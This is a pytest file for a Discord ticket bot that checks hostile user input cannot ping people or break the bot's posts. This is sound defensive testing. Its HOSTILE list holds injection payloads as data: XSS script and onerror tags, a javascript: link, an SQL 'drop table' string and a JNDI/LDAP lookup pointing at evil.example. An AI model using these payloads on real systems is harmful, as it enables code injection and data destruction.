"""Nothing a user typed can ping anybody or break what is shown."""

from __future__ import annotations

import re
from collections.abc import Iterable

import discord
import pytest

from domains.settings import Settings
from tests.cogs.replies import refusal, reply
from tests.cogs.shown import field
from tests.cogs.world import World, a_world
from tests.waiting import eventually

PINGS = "@everyone @here <@{user}> <@!{user}> <@&{role}>"
MARKDOWN = "**b** __u__ ~~s~~ ||spoiler|| `code` ```block``` > quote * _i_ \\*"
LINKS = "[click](javascript:alert(1)) [click](https://evil.example) <https://evil.example>"
TIMES = "<t:0:R> <#{channel}> </close:1> <:x:1>"
LINES = "one\ntwo\r\n# heading\n- item\n>>> all of it\u2028three\x07"
BIDI = "\u202egnp.exe\u202c \u2066\u200b\u200f\u00ad\ufeff"
ZALGO = "H\u0315\u0300" + "e\u0316\u0301\u0317" * 4 + "\u0336" * 60
LONG = "@*_`~|<>[]#\\" * 30

HOSTILE = {
    "pings": PINGS,
    "markdown": MARKDOWN,
    "links": LINKS,
    "mentions and times": TIMES,
    "lines": LINES,
    "direction of writing": BIDI,
    "nothing but marks": LONG,
    "piles of marks": ZALGO,
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "sql": "'; drop table punctual.tickets; --",
    "format": "{0} %s {ticket} $1 ${jndi:ldap://evil.example}",
    "a zero byte": "be\x00fore",
}

INVISIBLE = re.compile("[\x00-\x08\x0e-\x1f\u00ad\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
UNESCAPED = re.compile(r"(?<!\\)(?:\\\\)*[*_~`|<>\[\]#@]")
PILE = re.compile("[\u0300-\u036f]{5}")
OWN = re.compile(r"<(?:@&?\d+|#\d+|t:\d+:[a-zA-Z])>|https?://[^\s<>*`|~\[\]\\]+")
"""What the bot writes itself, and links, which stay links."""


def fill_in(world: World, text: str) -> str:
    """With ids of people and places that exist."""
    for name, id_ in (
        ("{user}", world.eve.id),
        ("{role}", world.support.id),
        ("{channel}", world.logs.id),
    ):
        text = text.replace(name, str(id_))
    return text


def posted(world: World) -> Iterable[discord.Message]:
    """All that the bot has written where several people read, and to the opener."""
    channels = [*world.guild.channels.values(), world.amy.user.dm_channel]
    for channel in channels:
        yield from (m for m in channel.history() if m.author.id == world.bot_id)


def assert_harmless(value: str | None) -> None:
    assert value is not None
    assert len(value) <= 1024
    assert "\n" not in value
    assert INVISIBLE.search(value) is None, ascii(value)
    assert UNESCAPED.search(OWN.sub("", value)) is None, value
    assert PILE.search(value) is None, ascii(value)


def assert_nobody_was_pinged_but_opener_and_support(world: World) -> None:
    for messages in world.env.backend.messages.values():
        for message in messages.values():
            if message.author_id == world.bot_id:
                assert set(message.ping_user_ids) <= {world.amy.id}, message.content
                assert set(message.ping_role_ids) <= {world.support.id}, message.content
                assert not message.mention_everyone, message.content


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
async def test_a_hostile_subject_is_shown_as_it_was_typed(settings: Settings, text: str) -> None:
    async with a_world(settings) as world:
        subject = fill_in(world, text)[:200]
        channel = await world.open_ticket(world.amy, subject)
        (welcome,) = [m for m in channel.history() if m.author.id == world.bot_id]
        assert_harmless(field(welcome, "Subject"))
        topic = world.env.backend.get_channel(channel.id).topic
        assert_harmless(topic)
        await world.amy.slash(channel, "close")
        await world.until_closed(channel)
        (log,) = [m for m in posted(world) if m.channel.id == world.logs.id]
        if (shown := field(log, "Subject")) is not None:
            assert_harmless(shown)
        assert_nobody_was_pinged_but_opener_and_support(world)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
async def test_a_hostile_reason_is_shown_as_it_was_typed(settings: Settings, text: str) -> None:
    async with a_world(settings) as world:
        reason = fill_in(world, text)[:255]
        channel = await world.open_ticket(world.amy)
        message = await world.ask_to_close(channel, reason, "2h")
        if field(message, "Reason") is not None:
            assert_harmless(field(message, "Reason"))
        assert "It closes" in reply(await world.sam.slash(channel, "autoclose status"))
        reply(await world.sam.slash(channel, "timers"))
        await world.amy.click(message, label="Accept & Close")
        await world.until_closed(channel)
        shown = [field(m, "Reason") for m in posted(world)]
        for value in filter(None, shown):
            assert_harmless(value)
        assert_nobody_was_pinged_but_opener_and_support(world)


@pytest.mark.parametrize(
    "blank",
    ["\u200b", "\u2800\u2800", "\u3164", "\u2066 \ufeff\u00ad", "\u0300", "\U000e0041"],
    ids=ascii,
)
async def test_a_subject_with_nothing_to_see_is_asked_for_again(
    settings: Settings, blank: str
) -> None:
    async with a_world(settings) as world:
        text = refusal(await world.ask_for_ticket(world.amy, blank))
        assert "what it's about" in text
        assert await world.count("tickets") == 0
        channel = await world.open_ticket(world.amy)
        message = await world.ask_to_close(channel, blank)
        assert field(message, "Reason") is None


async def test_lines_become_one_line_and_words_stay_apart(settings: Settings) -> None:
    async with a_world(settings) as world:
        channel = await world.open_ticket(world.amy, "one\ntwo\r\n\tthree")
        assert "one two three" in world.says(channel)[0]
        message = await world.ask_to_close(channel, "four\nfive")
        assert field(message, "Reason") == "four five"


async def test_links_stay_links(settings: Settings) -> None:
    async with a_world(settings) as world:
        link = "https://example.org/a_b_c?d=*"
        channel = await world.open_ticket(world.amy, f"see {link} _now_")
        assert "see https://example.org/a_b_c?d=\\* \\_now\\_" in world.says(channel)[0]


async def test_hostile_names_break_nothing(settings: Settings) -> None:
    async with a_world(settings) as world:
        backend = world.env.backend
        for member in (world.amy, world.sam):
            nick = fill_in(world, "@everyone <@&{role}> **b**")[:32]
            backend.edit_member(world.guild.id, member.id, {"nick": nick})
        backend.edit_guild(world.guild.id, {"name": fill_in(world, f"@everyone {LINKS}")[:100]})
        channel = await world.open_ticket(world.amy)
        await world.amy.send(channel, fill_in(world, f"{PINGS} {MARKDOWN} {LINKS} {BIDI}"))
        await world.ask_to_close(channel, "done", "2h")
        await world.sam.slash(channel, "close", reason="done")
        await world.until_closed(channel)
        (dm,) = world.amy.user.dm_channel.history()
        assert_harmless(field(dm, "Server"))
        assert_nobody_was_pinged_but_opener_and_support(world)


async def test_a_hostile_subject_is_found_again_by_its_channel(settings: Settings) -> None:
    """The topic carries the ticket's id behind the subject; no subject can stand for another."""
    async with a_world(settings) as world:
        first = await world.open_ticket(world.amy, "plain")
        ticket = await world.ticket(first)
        mark = f"Ref {world.tickets.installation_id}-{ticket.token}"
        await world.open_ticket(world.eve, f"forged · {mark}")
        world.env.backend.delete_channel(first.id)
        await world.until_closed(first)
        await world.sql.execute(
            "update punctual.tickets set channel_id = null, status = 'open' where id = $1",
            ticket.id,
        )
        await world.half_done(ticket.id, "open-channel")
        await eventually(lambda: world.is_taken_back(ticket.id))


async def test_settings_of_a_guild_are_no_place_for_pings_either(settings: Settings) -> None:
    async with a_world(settings) as world:
        await world.tickets.change_guild_settings(world.guild.id, category_id=1, log_channel_id=1)
        text = reply(await world.boss.slash(world.lobby, "setup"))
        assert "Support" in text
        assert_nobody_was_pinged_but_opener_and_support(world)
